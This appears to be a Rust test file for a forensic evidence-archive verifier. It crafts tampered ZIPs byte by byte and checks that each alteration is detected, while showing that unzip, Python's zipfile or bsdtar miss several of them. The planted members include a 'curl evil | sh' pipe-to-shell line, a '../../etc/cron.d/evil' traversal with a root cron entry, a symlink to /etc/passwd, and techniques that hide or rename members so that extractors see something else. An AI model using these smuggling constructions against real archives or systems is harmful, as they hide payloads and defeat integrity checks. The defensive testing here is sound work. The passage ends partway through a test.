//! The tamper matrix: one test per kind of alteration. Each must make
//! `exhibit verify` exit 1 with a problem of the right kind naming the
//! member. Where a common tool misses the alteration, the test shows that too.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests may panic on setup failures

use crate::util::*;
use std::fs;
use std::path::{Path, PathBuf};

/// A fresh archive of a small tree: (tempdir, archive path, stem).
fn fresh(store: bool) -> (tempfile::TempDir, PathBuf, String) {
    fresh_with(store, &[])
}

/// A fresh archive of the small tree plus these files.
fn fresh_with(store: bool, extra: &[(&str, &[u8])]) -> (tempfile::TempDir, PathBuf, String) {
    let t = tempfile::tempdir().unwrap();
    let src = t.path().join("src");
    fs::create_dir_all(src.join("www")).unwrap();
    fs::write(
        src.join("www/index.php"),
        "<?php echo 'hello'; ?>\n".repeat(50),
    )
    .unwrap();
    fs::write(
        src.join("access.log"),
        "10.0.0.1 - - [22/Nov/2026] \"GET / HTTP/1.1\" 200 512\n".repeat(200),
    )
    .unwrap();
    fs::write(src.join("customers.csv"), "id,name\n1,Alice\n2,Bob\n").unwrap();
    for (name, content) in extra {
        fs::write(src.join(name), content).unwrap();
    }
    let mut args = vec![src.to_str().unwrap().to_string()];
    if store {
        args.push("--store".into());
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let s = capture(&args, &t.path().join("out"));
    let archive = archive_path(&s);
    let stem = archive.file_stem().unwrap().to_string_lossy().into_owned();
    assert_eq!(verify(&archive).0, 0, "fresh archive must verify");
    (t, archive, stem)
}

/// Offsets (local header, central header) of a member, found by the zip crate.
fn offsets(archive: &Path, suffix: &str) -> (u64, u64, u64) {
    let f = fs::File::open(archive).unwrap();
    let mut z = zip::ZipArchive::new(f).unwrap();
    let name = z
        .file_names()
        .find(|n| n.ends_with(suffix))
        .unwrap()
        .to_string();
    let m = z.by_name(&name).unwrap();
    (m.header_start(), m.central_header_start(), m.data_start())
}

fn patch(archive: &Path, at: u64, bytes: &[u8]) {
    let mut data = fs::read(archive).unwrap();
    data[at as usize..at as usize + bytes.len()].copy_from_slice(bytes);
    fs::write(archive, data).unwrap();
}

fn read_u32(archive: &Path, at: u64) -> u32 {
    let data = fs::read(archive).unwrap();
    u32::from_le_bytes(data[at as usize..at as usize + 4].try_into().unwrap())
}

/// Rewrite the archive with Python's zipfile, transforming (name, data) pairs.
fn rewrite(archive: &Path, script: &str) {
    let program = format!(
        "import sys, zipfile\nsrc = zipfile.ZipFile(sys.argv[1])\nitems = [(i.filename, src.read(i)) for i in src.infolist()]\nsrc.close()\n{script}\nout = zipfile.ZipFile(sys.argv[1], 'w', zipfile.ZIP_DEFLATED)\nfor n, d in items:\n    out.writestr(n, d)\nout.close()\n"
    );
    tool(
        "python3",
        &["-c", &program, archive.to_str().unwrap()],
        archive.parent().unwrap(),
    );
}

fn assert_fails(archive: &Path, kind: &str, member_part: &str) -> serde_json::Value {
    let (code, report) = verify(archive);
    assert_eq!(code, 1, "verify must fail: {report:#}");
    assert_eq!(report["ok"], false);
    let hit = report["problems"].as_array().unwrap().iter().any(|p| {
        p["kind"] == kind
            && p["path"]
                .as_str()
                .unwrap_or("(archive)")
                .contains(member_part)
    });
    assert!(
        hit,
        "expected a `{kind}` problem naming `{member_part}`, got {:#}",
        report["problems"]
    );
    report
}

#[test]
fn central_directory_crc_changed() {
    let (t, archive, _) = fresh(false);
    let (_, central, _) = offsets(&archive, "customers.csv");
    let crc = read_u32(&archive, central + 16);
    patch(&archive, central + 16, &(crc ^ 0xdead_beef).to_le_bytes());
    assert_fails(&archive, "crc_mismatch", "customers.csv");
    assert_fails(&archive, "local_header_mismatch", "customers.csv");
    // Info-ZIP's test trusts the local header here and says nothing is wrong.
    let (ok, out) = tool_status("unzip", &["-tq", archive.to_str().unwrap()], t.path());
    assert!(ok, "unzip -t was expected to miss this: {out}");
}

#[test]
fn local_header_crc_changed() {
    let (t, archive, _) = fresh(false);
    let (local, _, _) = offsets(&archive, "customers.csv");
    // Our payload members use a data descriptor; a whole-file member (tag
    // file) carries its CRC in the local header.
    let (local_tag, _, _) = offsets(&archive, "bag-info.txt");
    for at in [local, local_tag] {
        let crc = read_u32(&archive, at + 14);
        patch(&archive, at + 14, &(crc ^ 1).to_le_bytes());
    }
    assert_fails(&archive, "local_header_mismatch", "bag-info.txt");
    assert_fails(&archive, "local_header_mismatch", "customers.csv");
    // Python's zipfile reads the CRC from the central directory only.
    let (ok, out) = tool_status(
        "python3",
        &[
            "-c",
            "import sys,zipfile; assert zipfile.ZipFile(sys.argv[1]).testzip() is None",
            archive.to_str().unwrap(),
        ],
        t.path(),
    );
    assert!(ok, "python zipfile was expected to miss this: {out}");
}

#[test]
fn payload_byte_flipped() {
    let (_t, archive, _) = fresh(true);
    let (_, _, data) = offsets(&archive, "customers.csv");
    patch(&archive, data + 9, b"M"); // "Alice" -> "Mlice"
    assert_fails(&archive, "crc_mismatch", "customers.csv");
}

#[test]
fn payload_replaced_consistently() {
    // The attacker recomputes CRCs (rewrites the ZIP) but cannot fix the manifest hash.
    let (_t, archive, _) = fresh(false);
    rewrite(
        &archive,
        "items = [(n, d.replace(b'Alice', b'Mallory') if n.endswith('customers.csv') else d) for n, d in items]",
    );
    assert_fails(&archive, "manifest_mismatch", "customers.csv");
}

#[test]
fn member_added() {
    let (_t, archive, stem) = fresh(false);
    rewrite(
        &archive,
        &format!("items.append(('{stem}/data/planted.sh', b'curl evil | sh'))"),
    );
    assert_fails(&archive, "unlisted_member", "planted.sh");
}

#[test]
fn member_removed() {
    let (_t, archive, _) = fresh(false);
    rewrite(
        &archive,
        "items = [(n, d) for n, d in items if not n.endswith('access.log')]",
    );
    assert_fails(&archive, "missing_member", "access.log");
}

#[test]
fn member_outside_the_bag() {
    let (_t, archive, _) = fresh(false);
    rewrite(
        &archive,
        "items.append(('README-outside.txt', b'not in the bag'))",
    );
    assert_fails(&archive, "outside_bag", "README-outside.txt");
}

#[test]
fn dot_dot_member_name() {
    let (_t, archive, stem) = fresh(false);
    rewrite(
        &archive,
        &format!("items.append(('{stem}/data/../../etc/cron.d/evil', b'* * * * * root sh'))"),
    );
    assert_fails(&archive, "unsafe_member_name", "../../etc/cron.d/evil");
}

#[test]
fn absolute_member_name() {
    let (_t, archive, _) = fresh(false);
    // Python strips a leading slash when writing, so patch the name bytes.
    rewrite(&archive, "items.append(('Xtmp/abs', b'absolute'))");
    let mut data = fs::read(&archive).unwrap();
    let mut count = 0;
    let needle = b"Xtmp/abs";
    let mut i = 0;
    while i + needle.len() <= data.len() {
        if &data[i..i + needle.len()] == needle {
            data[i] = b'/';
            count += 1;
        }
        i += 1;
    }
    assert_eq!(count, 2, "name appears in local and central header");
    fs::write(&archive, data).unwrap();
    assert_fails(&archive, "unsafe_member_name", "/tmp/abs");
}

#[test]
fn duplicate_member_names() {
    let (_t, archive, stem) = fresh(false);
    rewrite(
        &archive,
        &format!(
            "items.append(('{stem}/data/dup', b'one'))\nitems.append(('{stem}/data/dup', b'two'))"
        ),
    );
    assert_fails(&archive, "duplicate_member", "data/dup");
}

#[test]
fn manifest_edited() {
    let (_t, archive, _) = fresh(false);
    // Make the manifest agree with a forged payload; the tag manifest catches it.
    rewrite(
        &archive,
        "import hashlib\nnew = b'id,name\\n1,Mallory\\n'\nh_old = None\nout = []\nfor n, d in items:\n    if n.endswith('customers.csv'):\n        h_old = hashlib.sha256(d).hexdigest().encode(); d = new\n    out.append((n, d))\nitems = [(n, d.replace(h_old, hashlib.sha256(new).hexdigest().encode()) if n.endswith('/manifest-sha256.txt') else d) for n, d in out]",
    );
    assert_fails(&archive, "tag_mismatch", "manifest-sha256.txt");
}

#[test]
fn tag_file_edited() {
    let (_t, archive, _) = fresh(false);
    rewrite(
        &archive,
        "items = [(n, d.replace(b'Test Examiner', b'Someone Else') if n.endswith('bag-info.txt') else d) for n, d in items]",
    );
    assert_fails(&archive, "tag_mismatch", "bag-info.txt");
}

#[test]
fn files_jsonl_edited() {
    let (_t, archive, _) = fresh(false);
    rewrite(
        &archive,
        "items = [(n, d.replace(b'\"mode\":\"0644\"', b'\"mode\":\"0755\"', 1) if n.endswith('files.jsonl') else d) for n, d in items]",
    );
    assert_fails(&archive, "tag_mismatch", "files.jsonl");
}

#[test]
fn payload_oxum_edited_with_tag_manifest_recomputed() {
    let (_t, archive, _) = fresh(false);
    rewrite(
        &archive,
        "import hashlib, re\nitems = [(n, re.sub(rb'Payload-Oxum: \\d+', b'Payload-Oxum: 1', d) if n.endswith('bag-info.txt') else d) for n, d in items]\ninfo = [d for n, d in items if n.endswith('bag-info.txt')][0]\nitems = [(n, re.sub(rb'\\w{64}(?=  bag-info.txt)', hashlib.sha256(info).hexdigest().encode(), d) if n.endswith('tagmanifest-sha256.txt') else d) for n, d in items]",
    );
    assert_fails(&archive, "oxum_mismatch", "bag-info.txt");
}

#[test]
fn truncated_archive() {
    let (_t, archive, _) = fresh(false);
    let data = fs::read(&archive).unwrap();
    fs::write(&archive, &data[..data.len() * 2 / 3]).unwrap();
    let (code, report) = verify(&archive);
    assert_eq!(code, 1, "{report:#}");
    assert!(
        problem_kinds(&report).contains(&"not_a_zip".to_string()),
        "{report:#}"
    );
}

#[test]
fn bytes_hidden_between_members() {
    let (_t, archive, _) = fresh(true);
    // Insert bytes after the first member and shift every offset: rebuild by
    // appending junk before the central directory and fixing the end record.
    let mut data = fs::read(&archive).unwrap();
    let eocd = data.len() - 22;
    assert_eq!(&data[eocd..eocd + 4], b"PK\x05\x06");
    let cd_start = u32::from_le_bytes(data[eocd + 16..eocd + 20].try_into().unwrap()) as usize;
    let junk = b"hidden payload smuggled between members";
    data.splice(cd_start..cd_start, junk.iter().copied());
    let new_start = (cd_start + junk.len()) as u32;
    let eocd = data.len() - 22;
    data[eocd + 16..eocd + 20].copy_from_slice(&new_start.to_le_bytes());
    fs::write(&archive, data).unwrap();
    let (code, report) = verify(&archive);
    assert_eq!(code, 1);
    assert!(
        problem_kinds(&report).contains(&"gap".to_string()),
        "{report:#}"
    );
}

#[test]
fn not_an_archive_and_missing_file() {
    let t = tempfile::tempdir().unwrap();
    let junk = t.path().join("junk.zip");
    fs::write(&junk, b"this is not a zip file at all").unwrap();
    let (code, report) = verify(&junk);
    assert_eq!(code, 1);
    assert!(problem_kinds(&report).contains(&"not_a_zip".to_string()));
    let o = exhibit()
        .args(["verify"])
        .arg(t.path().join("nope.zip"))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("nope.zip"));
}

#[test]
fn human_report_names_each_problem() {
    let (_t, archive, _) = fresh(false);
    rewrite(
        &archive,
        "items = [(n, d) for n, d in items if not n.endswith('access.log')]",
    );
    let o = exhibit().arg("verify").arg(&archive).output().unwrap();
    assert_eq!(o.status.code(), Some(1));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("FAILED"), "{out}");
    assert!(
        out.contains("missing_member") && out.contains("access.log"),
        "{out}"
    );
}

// ---------------------------------------------------------------------------
// Hostile constructions Exhibit never writes. Each is crafted here byte by
// byte (the `Zip` model below keeps every header field of the captured
// archive and lays the members out again), so the *only* irregularity is
// the one under test: the report must hold exactly its kind(s), which shows
// that without the check the archive would pass as intact. Where practical,
// an extractor we did not write shows that it sees something else.
// ---------------------------------------------------------------------------

use sha2::Digest as _;
use std::io::{Read as _, Write as _};

/// One member as its headers describe it.
#[derive(Clone, Debug)]
struct Entry {
    /// Name in the central directory.
    name: Vec<u8>,
    /// Name in the local header.
    local_name: Vec<u8>,
    made_by: u16,
    flags: u16,
    method: u16,
    time: u16,
    date: u16,
    crc: u32,
    usize: u32,
    local_extra: Vec<u8>,
    central_extra: Vec<u8>,
    internal: u16,
    external: u32,
    /// The compressed bytes.
    data: Vec<u8>,
    /// Write no local header and data: point at this earlier entry's.
    share: Option<usize>,
}

/// A plain (non-ZIP64) archive as a list of members.
#[derive(Clone, Debug)]
struct Zip {
    entries: Vec<Entry>,
}

fn le16(b: &[u8], at: usize) -> u16 {
    u16::from_le_bytes(b[at..at + 2].try_into().unwrap())
}
fn le32(b: &[u8], at: usize) -> u32 {
    u32::from_le_bytes(b[at..at + 4].try_into().unwrap())
}

/// An extra field: id, length, data.
fn extra_field(id: u16, data: &[u8]) -> Vec<u8> {
    let mut v = id.to_le_bytes().to_vec();
    v.extend((data.len() as u16).to_le_bytes());
    v.extend(data);
    v
}

impl Zip {
    fn read(path: &Path) -> Zip {
        let b = fs::read(path).unwrap();
        let eocd = b.len() - 22;
        assert_eq!(le32(&b, eocd), 0x0605_4b50, "plain end record");
        let count = le16(&b, eocd + 10) as usize;
        let mut at = le32(&b, eocd + 16) as usize;
        let mut entries = Vec::new();
        for _ in 0..count {
            assert_eq!(le32(&b, at), 0x0201_4b50);
            let (n, m, k) = (
                le16(&b, at + 28) as usize,
                le16(&b, at + 30) as usize,
                le16(&b, at + 32) as usize,
            );
            let off = le32(&b, at + 42) as usize;
            let (ln, le) = (le16(&b, off + 26) as usize, le16(&b, off + 28) as usize);
            let csize = le32(&b, at + 20) as usize;
            let ds = off + 30 + ln + le;
            entries.push(Entry {
                name: b[at + 46..at + 46 + n].to_vec(),
                local_name: b[off + 30..off + 30 + ln].to_vec(),
                made_by: le16(&b, at + 4),
                flags: le16(&b, at + 8),
                method: le16(&b, at + 10),
                time: le16(&b, at + 12),
                date: le16(&b, at + 14),
                crc: le32(&b, at + 16),
                usize: le32(&b, at + 24),
                local_extra: b[off + 30 + ln..ds].to_vec(),
                central_extra: b[at + 46 + n..at + 46 + n + m].to_vec(),
                internal: le16(&b, at + 36),
                external: le32(&b, at + 38),
                data: b[ds..ds + csize].to_vec(),
                share: None,
            });
            at += 46 + n + m + k;
        }
        Zip { entries }
    }

    /// Lay the members out again; `zip64_sector` adds a ZIP64 end record
    /// whose extensible data sector holds these bytes.
    fn build(&self, zip64_sector: Option<&[u8]>) -> Vec<u8> {
        let mut out = Vec::new();
        let mut offsets = Vec::new();
        for e in &self.entries {
            if let Some(j) = e.share {
                offsets.push(offsets[j]);
                continue;
            }
            offsets.push(out.len() as u32);
            let dd = e.flags & 8 != 0;
            out.extend(0x0403_4b50u32.to_le_bytes());
            out.extend(20u16.to_le_bytes());
            out.extend(e.flags.to_le_bytes());
            out.extend(e.method.to_le_bytes());
            out.extend(e.time.to_le_bytes());
            out.extend(e.date.to_le_bytes());
            for v in [e.crc, e.data.len() as u32, e.usize] {
                out.extend((if dd { 0 } else { v }).to_le_bytes());
            }
            out.extend((e.local_name.len() as u16).to_le_bytes());
            out.extend((e.local_extra.len() as u16).to_le_bytes());
            out.extend(&e.local_name);
            out.extend(&e.local_extra);
            out.extend(&e.data);
            if dd {
                for v in [0x0807_4b50, e.crc, e.data.len() as u32, e.usize] {
                    out.extend(v.to_le_bytes());
                }
            }
        }
        let cd_start = out.len();
        for (e, off) in self.entries.iter().zip(&offsets) {
            let shared = e.share.map_or(e, |j| &self.entries[j]);
            out.extend(0x0201_4b50u32.to_le_bytes());
            out.extend(e.made_by.to_le_bytes());
            out.extend(20u16.to_le_bytes());
            out.extend(e.flags.to_le_bytes());
            out.extend(e.method.to_le_bytes());
            out.extend(e.time.to_le_bytes());
            out.extend(e.date.to_le_bytes());
            out.extend(e.crc.to_le_bytes());
            out.extend((shared.data.len() as u32).to_le_bytes());
            out.extend(e.usize.to_le_bytes());
            out.extend((e.name.len() as u16).to_le_bytes());
            out.extend((e.central_extra.len() as u16).to_le_bytes());
            out.extend([0, 0, 0, 0]);
            out.extend(e.internal.to_le_bytes());
            out.extend(e.external.to_le_bytes());
            out.extend(off.to_le_bytes());
            out.extend(&e.name);
            out.extend(&e.central_extra);
        }
        let cd_size = out.len() - cd_start;
        if let Some(sector) = zip64_sector {
            let z64 = out.len() as u64;
            out.extend(0x0606_4b50u32.to_le_bytes());
            out.extend((44 + sector.len() as u64).to_le_bytes());
            out.extend(((3u16 << 8) | 63).to_le_bytes());
            out.extend(45u16.to_le_bytes());
            out.extend([0; 8]);
            let n = self.entries.len() as u64;
            for v in [n, n, cd_size as u64, cd_start as u64] {
                out.extend(v.to_le_bytes());
            }
            out.extend(sector);
            out.extend(0x0706_4b50u32.to_le_bytes());
            out.extend(0u32.to_le_bytes());
            out.extend(z64.to_le_bytes());
            out.extend(1u32.to_le_bytes());
        }
        out.extend(0x0605_4b50u32.to_le_bytes());
        out.extend([0; 4]);
        let n = self.entries.len() as u16;
        out.extend(n.to_le_bytes());
        out.extend(n.to_le_bytes());
        out.extend((cd_size as u32).to_le_bytes());
        out.extend((cd_start as u32).to_le_bytes());
        out.extend([0, 0]);
        out
    }

    /// Write the archive, removing the custody log beside it as the
    /// attacker does (its sealed hash would give the change away).
    fn write(&self, path: &Path) {
        write_unsealed(path, &self.build(None));
    }

    /// The index of the member whose name ends with `suffix`.
    fn find(&self, suffix: &str) -> usize {
        self.entries
            .iter()
            .position(|e| e.name.ends_with(suffix.as_bytes()))
            .unwrap_or_else(|| panic!("no member ending in {suffix}"))
    }

    fn content(&self, i: usize) -> Vec<u8> {
        let e = &self.entries[i];
        match e.method {
            0 => e.data.clone(),
            8 => {
                let mut out = Vec::new();
                flate2::read::DeflateDecoder::new(&e.data[..])
                    .read_to_end(&mut out)
                    .unwrap();
                out
            }
            m => panic!("method {m}"),
        }
    }

    /// Replace a member's content (deflated when it was).
    fn set_content(&mut self, i: usize, content: &[u8]) {
        let e = &mut self.entries[i];
        e.crc = crc32fast::hash(content);
        e.usize = content.len() as u32;
        e.data = if e.method == 8 {
            let mut d =
                flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
            d.write_all(content).unwrap();
            d.finish().unwrap()
        } else {
            content.to_vec()
        };
    }

    fn text(&self, suffix: &str) -> String {
        String::from_utf8(self.content(self.find(suffix))).unwrap()
    }

    fn set_text(&mut self, suffix: &str, text: &str) {
        let i = self.find(suffix);
        self.set_content(i, text.as_bytes());
    }

    /// Do what an attacker without the custody log does: recompute
    /// `manifest-sha256.txt`, Payload-Oxum and `tagmanifest-sha256.txt`
    /// from the members as they now are.
    fn reseal(&mut self, stem: &str) {
        let prefix = format!("{stem}/");
        let sha = |d: &[u8]| hex::encode(sha2::Sha256::digest(d));
        let (mut manifest, mut bytes, mut count) = (String::new(), 0usize, 0usize);
        for i in 0..self.entries.len() {
            let name = String::from_utf8_lossy(&self.entries[i].name).into_owned();
            let Some(rel) = name.strip_prefix(&prefix) else {
                continue;
            };
            if rel.starts_with("data/") && !rel.ends_with('/') {
                let c = self.content(i);
                manifest.push_str(&format!("{}  {rel}\n", sha(&c)));
                bytes += c.len();
                count += 1;
            }
        }
        self.set_text("/manifest-sha256.txt", &manifest);
        let info = self.text("/bag-info.txt");
        let info: String = info
            .lines()
            .map(|l| {
                if l.starts_with("Payload-Oxum:") {
                    format!("Payload-Oxum: {bytes}.{count}\n")
                } else {
                    format!("{l}\n")
                }
            })
            .collect();
        self.set_text("/bag-info.txt", &info);
        let mut tags = String::new();
        for i in 0..self.entries.len() {
            let name = String::from_utf8_lossy(&self.entries[i].name).into_owned();
            let Some(rel) = name.strip_prefix(&prefix) else {
                continue;
            };
            if !rel.starts_with("data/") && rel != "tagmanifest-sha256.txt" && !rel.ends_with('/') {
                tags.push_str(&format!("{}  {rel}\n", sha(&self.content(i))));
            }
        }
        self.set_text("/tagmanifest-sha256.txt", &tags);
    }

    /// Edit the records of `exhibit/files.jsonl`.
    fn edit_records(&mut self, f: impl FnOnce(&mut Vec<serde_json::Value>)) {
        let mut recs: Vec<serde_json::Value> = self
            .text("/exhibit/files.jsonl")
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        f(&mut recs);
        let text: String = recs.iter().map(|r| format!("{r}\n")).collect();
        self.set_text("/exhibit/files.jsonl", &text);
    }
}

/// Replace an archive and remove its custody log.
fn write_unsealed(path: &Path, bytes: &[u8]) {
    fs::write(path, bytes).unwrap();
    let log = exhibit::archive::custody_log_path(path);
    if log.exists() {
        fs::remove_file(log).unwrap();
    }
}

/// The problem kinds of a failed report, sorted and deduplicated.
fn kinds_of(archive: &Path) -> Vec<String> {
    let (code, report) = verify(archive);
    assert_eq!(code, 1, "verify must fail: {report:#}");
    let mut k = problem_kinds(&report);
    k.sort();
    k.dedup();
    k
}

/// The crafted archive differs from the sealed one only by `kinds`.
fn assert_only(archive: &Path, kinds: &[&str]) {
    let mut want: Vec<String> = kinds.iter().map(|k| k.to_string()).collect();
    want.sort();
    assert_eq!(kinds_of(archive), want, "{:#}", verify(archive).1);
}

/// Unzip `archive` into `dir` with Info-ZIP (overwriting, keeping names).
fn unzip_into(archive: &Path, dir: &Path) -> (bool, String) {
    fs::create_dir_all(dir).unwrap();
    tool_status(
        "unzip",
        &[
            "-o",
            "-q",
            archive.to_str().unwrap(),
            "-d",
            dir.to_str().unwrap(),
        ],
        dir,
    )
}

#[test]
fn unknown_extra_field_hiding_data() {
    let (t, archive, _) = fresh(false);
    let mut z = Zip::read(&archive);
    let i = z.find("customers.csv");
    let hidden = extra_field(0xcafe, b"exfiltrated: 4111 1111 1111 1111");
    z.entries[i].local_extra.extend(&hidden);
    z.entries[i].central_extra.extend(&hidden);
    z.write(&archive);
    assert_only(&archive, &["unknown_extra_field"]);
    // Info-ZIP tests the archive clean: the bytes ride along unseen.
    let (ok, out) = tool_status("unzip", &["-tq", archive.to_str().unwrap()], t.path());
    assert!(ok, "unzip -t was expected to miss this: {out}");
}

#[test]
fn bytes_after_the_end_of_a_deflate_stream() {
    let (t, archive, _) = fresh(false);
    let mut z = Zip::read(&archive);
    let i = z.find("access.log");
    assert_eq!(z.entries[i].method, 8, "access.log compresses");
    let sealed = z.content(i);
    z.entries[i]
        .data
        .extend(b"hidden after the final deflate block".repeat(3));
    z.write(&archive);
    let (_, report) = verify(&archive);
    assert_only(&archive, &["trailing_compressed_data"]);
    assert!(report.to_string().contains("108 bytes"), "{report:#}");
    // Extractors inflate to the end of the stream and never see the rest.
    let (ok, out) = tool_status("unzip", &["-tq", archive.to_str().unwrap()], t.path());
    assert!(ok, "unzip -t was expected to miss this: {out}");
    let name = String::from_utf8(z.entries[i].name.clone()).unwrap();
    let o = std::process::Command::new("unzip")
        .args(["-p", archive.to_str().unwrap(), &name])
        .output()
        .unwrap();
    assert_eq!(o.stdout, sealed);
}

#[test]
fn zip64_end_record_with_an_extensible_data_sector() {
    let (t, archive, _) = fresh(false);
    let z = Zip::read(&archive);
    write_unsealed(
        &archive,
        &z.build(Some(b"hidden in the ZIP64 extensible data sector")),
    );
    assert_only(&archive, &["zip64_extensible_data"]);
    let (ok, out) = tool_status("unzip", &["-tq", archive.to_str().unwrap()], t.path());
    assert!(ok, "unzip -t was expected to miss this: {out}");
}

#[test]
fn unicode_path_field_renames_the_member_for_extractors() {
    let (t, archive, stem) = fresh(false);
    let mut z = Zip::read(&archive);
    let i = z.find("customers.csv");
    let name = z.entries[i].name.clone();
    let other = format!("{stem}/data/elsewhere/customers.csv");
    let mut field = vec![1u8];
    field.extend(crc32fast::hash(&name).to_le_bytes());
    field.extend(other.as_bytes());
    let field = extra_field(0x7075, &field);
    z.entries[i].local_extra.extend(&field);
    z.entries[i].central_extra.extend(&field);
    // Info-ZIP reads the field only when the UTF-8 flag is clear; for an
    // ASCII name clearing it changes nothing else.
    z.entries[i].flags &= !0x800;
    z.write(&archive);
    assert_only(&archive, &["unicode_path_field"]);
    // Info-ZIP extracts the member under the other name.
    let listed = tool("unzip", &["-l", archive.to_str().unwrap()], t.path());
    assert!(listed.contains(&other), "{listed}");
    let x = t.path().join("x");
    assert!(unzip_into(&archive, &x).0);
    assert!(x.join(&other).is_file());
    assert!(!x.join(String::from_utf8(name).unwrap()).exists());
}

#[test]
fn names_that_extract_to_the_same_path() {
    // A second member `…/src/./customers.csv` with other content, listed in
    // the manifest and in files.jsonl under the same path: extractors write
    // both to `…/src/customers.csv`, and the later one wins.
    let (t, archive, stem) = fresh(true);
    let mut z = Zip::read(&archive);
    let i = z.find("/src/customers.csv");
    let name = String::from_utf8(z.entries[i].name.clone()).unwrap();
    let dotted = name.replace("/src/customers.csv", "/src/./customers.csv");
    let evil = b"id,name\n1,Mallory\n";
    let mut e = z.entries[i].clone();
    e.name = dotted.clone().into_bytes();
    e.local_name = e.name.clone();
    z.entries.insert(i + 1, e);
    z.set_content(i + 1, evil);
    z.edit_records(|recs| {
        let k = recs
            .iter()
            .position(|r| r["member"].as_str() == Some(name.as_str()))
            .unwrap();
        let mut r = recs[k].clone();
        r["member"] = dotted.clone().into();
        r["sha256"] = sha256_hex(evil).into();
        r["size"] = evil.len().into();
        recs.insert(k + 1, r);
    });
    z.reseal(&stem);
    z.write(&archive);
    assert_only(
        &archive,
        &[
            "name_collision",
            "noncanonical_name",
            "record_member_mismatch",
        ],
    );
    // Info-ZIP leaves the forged content where the sealed file belongs.
    let x = t.path().join("x");
    assert!(unzip_into(&archive, &x).0);
    assert_eq!(fs::read(x.join(&name)).unwrap(), evil);
}

#[test]
fn tag_file_named_like_the_payload_directory() {
    let (t, archive, stem) = fresh(false);
    let mut z = Zip::read(&archive);
    let mut e = z.entries[z.find("/bagit.txt")].clone();
    e.name = format!("{stem}/data").into_bytes();
    e.local_name = e.name.clone();
    z.entries.push(e);
    z.reseal(&stem);
    z.write(&archive);
    assert_only(&archive, &["name_collision"]);
    // No extractor can unpack both a file and a directory `data`.
    let (ok, out) = unzip_into(&archive, &t.path().join("x"));
    assert!(!ok, "unzip was expected to fail: {out}");
}

#[test]
fn directory_member_planted() {
    let (t, archive, stem) = fresh(false);
    let mut z = Zip::read(&archive);
    let mut e = z.entries[z.find("/bagit.txt")].clone();
    e.name = format!("{stem}/data/planted/").into_bytes();
    e.local_name = e.name.clone();
    e.external = (0o40755 << 16) | 0x10;
    z.entries.push(e);
    let last = z.entries.len() - 1;
    z.set_content(last, b"");
    z.write(&archive);
    assert_only(&archive, &["directory_member"]);
    let x = t.path().join("x");
    assert!(unzip_into(&archive, &x).0);
    assert!(x.join(&stem).join("data/planted").is_dir());
}

#[test]
fn central_name_not_utf8_matched_lossily() {
    // Central `…customers\xff.csv`, local `…customers\u{fffd}.csv` (which is
    // what a lossy reading of the central name gives), and a manifest and
    // record for the lossy name.
    let (t, archive, stem) = fresh(true);
    let mut z = Zip::read(&archive);
    let i = z.find("/src/customers.csv");
    let name = String::from_utf8(z.entries[i].name.clone()).unwrap();
    let lossy = name.replace("customers.csv", "customers\u{fffd}.csv");
    z.entries[i].name = name
        .replace("customers.csv", "customers\u{1}.csv")
        .into_bytes();
    let at = z.entries[i].name.iter().position(|&b| b == 1).unwrap();
    z.entries[i].name[at] = 0xff;
    z.entries[i].local_name = lossy.clone().into_bytes();
    z.edit_records(|recs| {
        let r = recs
            .iter_mut()
            .find(|r| r["member"].as_str() == Some(name.as_str()))
            .unwrap();
        r["member"] = lossy.clone().into();
        let path = r["path"]
            .as_str()
            .unwrap()
            .replace("customers.csv", "customers\u{fffd}.csv");
        r["path"] = path.into();
    });
    z.reseal(&stem);
    z.write(&archive);
    assert_only(&archive, &["local_header_mismatch", "name_not_utf8"]);
    // Info-ZIP names the file by the central directory; a streaming reader
    // (bsdtar from a pipe) by the local header: two different files.
    let central = std::process::Command::new("unzip")
        .args(["-Z1", archive.to_str().unwrap()])
        .output()
        .unwrap()
        .stdout;
    let piped = std::process::Command::new("bash")
        .args(["-c", &format!("cat '{}' | bsdtar -tf -", archive.display())])
        .output()
        .unwrap()
        .stdout;
    let has = |hay: &[u8], needle: &[u8]| hay.windows(needle.len()).any(|w| w == needle);
    assert!(has(&central, b"customers\xff.csv"));
    assert!(has(&piped, "customers\u{fffd}.csv".as_bytes()));
    assert!(!has(&piped, b"customers\xff.csv"));
    let _ = t;
}

#[test]
fn stored_member_with_a_data_descriptor() {
    // The content starts with a forged data descriptor (CRC 0, sizes 0)
    // followed by a local header: a streaming extractor ends the member at
    // once and then finds a member no central directory lists.
    let mut content = Vec::new();
    for v in [0x0807_4b50u32, 0, 0, 0] {
        content.extend(v.to_le_bytes());
    }
    let hidden = b"curl evil | sh\n";
    let planted = b"planted/evil.sh";
    content.extend(0x0403_4b50u32.to_le_bytes());
    content.extend([20, 0, 0, 0, 0, 0, 0, 0, 0x21, 0]);
    content.extend(crc32fast::hash(hidden).to_le_bytes());
    content.extend((hidden.len() as u32).to_le_bytes());
    content.extend((hidden.len() as u32).to_le_bytes());
    content.extend((planted.len() as u16).to_le_bytes());
    content.extend([0, 0]);
    content.extend(planted);
    content.extend(hidden);
    content.extend(b"the rest of the file as it was sealed\n");
    let (t, archive, _) = fresh_with(true, &[("report.bin", &content)]);
    let mut z = Zip::read(&archive);
    let i = z.find("/src/report.bin");
    assert_eq!(z.content(i), content);
    z.entries[i].method = 0;
    z.entries[i].data = content.clone();
    z.entries[i].flags |= 8;
    z.write(&archive);
    assert_only(&archive, &["stored_with_data_descriptor"]);
    // Read from a pipe, bsdtar sees an empty report.bin and a planted file.
    let piped = tool(
        "bash",
        &[
            "-c",
            &format!("cat '{}' | bsdtar -tvf -", archive.display()),
        ],
        t.path(),
    );
    assert!(piped.contains("planted/evil.sh"), "{piped}");
    let listed = tool("unzip", &["-l", archive.to_str().unwrap()], t.path());
    assert!(!listed.contains("planted/evil.sh"), "{listed}");
}

#[test]
fn symlink_attributes_under_a_non_unix_host() {
    // "Made by" FAT, with a Unix symlink mode in the high half: Exhibit used
    // to read the mode only for Unix hosts, 7-Zip reads it for any host.
    let (t, archive, _) = fresh_with(false, &[("target.txt", b"/etc/passwd")]);
    let mut z = Zip::read(&archive);
    let i = z.find("/src/target.txt");
    z.entries[i].made_by &= 0x00ff;
    z.entries[i].external = 0o120_644 << 16;
    z.write(&archive);
    let k = kinds_of(&archive);
